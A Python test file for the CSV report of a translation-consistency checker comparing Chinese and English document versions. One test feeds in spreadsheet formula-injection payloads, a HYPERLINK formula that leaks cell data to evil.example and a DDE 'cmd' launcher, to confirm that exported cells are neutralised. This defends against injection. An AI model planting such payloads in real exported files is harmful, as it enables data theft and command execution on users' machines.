"""CSV export (--format csv): one row per finding, the aligned row's three texts, Excel-safe."""

from __future__ import annotations

import csv
import io
from types import SimpleNamespace

import pytest

from tcheck.model import Alignment, Document, Finding, Location, Row, Segment, Severity, Version
from tcheck.report.csv import BOM, HEADER, neutralise, render_csv

from ..conftest import FIXTURES

FIREFOX = FIXTURES / "corpus" / "mozilla-legal" / "firefox_privacy_notice_2022-05-23"


def parse(text: str) -> list[dict]:
    """Parse the CSV the way a spreadsheet importer would: from bytes, BOM honoured."""
    data = text.encode("utf-8")
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM missing (Excel would show mojibake)"
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert tuple(rows[0]) == HEADER
    assert all(len(r) == len(HEADER) for r in rows)
    return [dict(zip(HEADER, r)) for r in rows[1:]]


def _seg(i: int, text: str, line: int) -> Segment:
    return Segment(index=i, raw=text, text=text, line=line, end_line=line)


def _tiny_result(message: str, suggestion: str | None = None):
    hans = Version("zh-Hans", "doc.zh-CN.md", [_seg(1, "退款期限为30天。", 1), _seg(2, "=1+1 不是公式", 3)])
    hant = Version("zh-Hant", "doc.zh-TW.md", [_seg(1, "退款期限為30天。", 1), _seg(2, "=1+1 不是公式", 3)])
    en = Version(
        "en",
        "doc.md",
        [
            _seg(1, "Refunds within 14 days.", 1),
            _seg(2, "The second line,", 3),
            _seg(3, 'with "quotes"\nand a newline.', 4),
        ],
    )
    doc = Document([hans, hant, en])
    alignment = Alignment(
        ["zh-Hans", "zh-Hant", "en"],
        [
            Row({"zh-Hans": [1], "zh-Hant": [1], "en": [1]}),
            Row({"zh-Hans": [2], "zh-Hant": [2], "en": [2, 3]}),
        ],
    )
    f1 = Finding(
        "number-mismatch",
        Severity.ERROR,
        message,
        [Location("en", "doc.md", 1, 1, 1, 1, at=(1, 16))],
        counterparts=[Location("zh-Hans", "doc.zh-CN.md", 1, 1, 1), Location("zh-Hant", "doc.zh-TW.md", 1, 1, 1)],
        suggestion=suggestion,
    )
    f2 = Finding(
        "untranslated",
        Severity.WARNING,
        "@everyone: text left untranslated",
        [Location("zh-Hant", "doc.zh-TW.md", 2, 3, 3)],
    )
    return SimpleNamespace(document=doc, alignment=alignment, findings=[f1, f2], suppressed=0, baseline=0)


def test_rows_parse_back_with_the_aligned_texts():
    res = _tiny_result("en has 14 where zh-Hans and zh-Hant have 30", suggestion="write 30 days")
    rows = parse(render_csv([res]))
    assert len(rows) == 2
    by_rule = {r["rule"]: r for r in rows}
    num = by_rule["number-mismatch"]
    assert (num["file"], num["line"], num["column"], num["lang"], num["severity"]) == (
        "doc.md",
        "1",
        "16",
        "en",
        "error",
    )
    assert num["zh-Hans"] == "退款期限为30天。"
    assert num["zh-Hant"] == "退款期限為30天。"
    assert num["en"] == "Refunds within 14 days."
    assert num["suggestion"] == "write 30 days"
    # a 1-1-2 row: both English paragraphs, quotes and newlines survive the round trip
    unt = by_rule["untranslated"]
    assert unt["en"] == 'The second line,\nwith "quotes"\nand a newline.'
    assert unt["suggestion"] == ""


def test_formula_looking_cells_are_neutralised():
    res = _tiny_result('=HYPERLINK("http://evil.example/?"&A1,"click")', suggestion="+cmd|' /C calc'!A0")
    rows = parse(render_csv([res]))
    by_rule = {r["rule"]: r for r in rows}
    num, unt = by_rule["number-mismatch"], by_rule["untranslated"]
    assert num["message"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert num["suggestion"].startswith("'+")
    assert unt["message"].startswith("'@everyone")
    assert unt["zh-Hans"] == "'=1+1 不是公式"  # document text is untrusted too
    for r in rows:
        for col in HEADER:
            assert not r[col].startswith(("=", "+", "-", "@", "\t", "\r")), (col, r[col])


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=SUM(A1)", "'=SUM(A1)"),
        ("+1", "'+1"),
        ("-5 days", "'-5 days"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("safe = text", "safe = text"),
        ("", ""),
        (None, ""),
        ("数据-1", "数据-1"),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_overlong_cells_fit_a_spreadsheet_cell():
    from tcheck.report.csv import MAX_CELL

    assert len(neutralise("字" * 40000)) == MAX_CELL


def test_no_findings_is_a_header_only_file():
    res = _tiny_result("x")
    res.findings = []
    text = render_csv([res])
    assert text.startswith(BOM)
    assert parse(text) == []


def _audit(files):
    from tcheck.pipeline import Settings, audit_files

    return audit_files([str(f) for f in files], settings=Settings(use_cache=False))


@pytest.mark.slow
def test_real_document_rows_hold_the_aligned_versions():
    """Mozilla's Firefox privacy notice in three files: every row carries the finding's own paragraph
    and every counterpart paragraph in the right language column."""
    res = _audit([FIREFOX / "en.md", FIREFOX / "zh-CN.md", FIREFOX / "zh-TW.md"])
    assert res.findings, "the fixture is expected to have findings"
    rows = parse(render_csv([res]))
    assert len(rows) == len(res.findings)
    doc = res.document
    findings = sorted(res.findings, key=lambda f: (f.locations[0].path, f.locations[0].start, f.rule))
    full_rows = 0
    for f, row in zip(findings, rows):
        loc = f.locations[0]
        assert (row["file"], row["rule"], row["severity"], row["lang"]) == (
            loc.path,
            f.rule,
            f.severity.label,
            loc.lang,
        )
        assert (int(row["line"]), int(row["column"])) == loc.start
        assert row["message"] in (f.message, "'" + f.message)
        for other in [loc, *f.counterparts]:
            text = doc.get(other.lang)[other.paragraph].text
            assert neutralise(text) in row[other.lang].split("\n"), (f.rule, other.lang, other.paragraph)
        if f.rule == "missing-paragraph":
            missing = [lg for lg in ("zh-Hans", "zh-Hant", "en") if lg != loc.lang and lg in f.message.split(":")[0]]
            assert missing and all(row[lg] == "" for lg in missing), row
        if all(row[lg] for lg in ("zh-Hans", "zh-Hant", "en")):
            full_rows += 1
            assert row["file"].endswith(("en.md", "zh-CN.md", "zh-TW.md"))
    assert full_rows, "some finding sits in a row that all three versions share"


@pytest.mark.slow
def test_cli_format_csv(audit_cli, tmp_path):
    """tcheck audit --format csv: to a file and to stdout, same rows; the exit status follows --fail-on."""
    (tmp_path / "policy.md").write_text(
        "# Refund policy\n\nYou can ask for a refund within 14 days of your purchase.\n\n"
        "Refunds are paid to the card you used.\n\n=We may also ask you to return the product in its packaging.\n",
        encoding="utf-8",
    )
    (tmp_path / "policy.zh-CN.md").write_text(
        "# 退款政策\n\n您可以在购买后 14 天内申请退款。\n\n退款将退回到您使用的银行卡。\n", encoding="utf-8"
    )
    (tmp_path / "policy.zh-TW.md").write_text(
        "# 退款政策\n\n您可以在購買後 14 天內申請退款。\n\n退款將退回到您使用的銀行卡。\n", encoding="utf-8"
    )
    result = audit_cli("policy.md", "--format", "csv", "--output", "report.csv", "--fail-on", "warning", "--no-config")
    assert result.exit_code == 1, result.output
    rows = parse((tmp_path / "report.csv").read_bytes().decode("utf-8"))
    assert [(r["file"], r["line"], r["rule"], r["lang"]) for r in rows] == [
        ("policy.md", "7", "missing-paragraph", "en")
    ]
    assert rows[0]["en"] == "'=We may also ask you to return the product in its packaging."
    assert rows[0]["zh-Hans"] == rows[0]["zh-Hant"] == ""
    stdout = audit_cli("policy.md", "--format", "csv", "--no-config")
    assert stdout.exit_code == 0
    assert parse(stdout.output) == rows
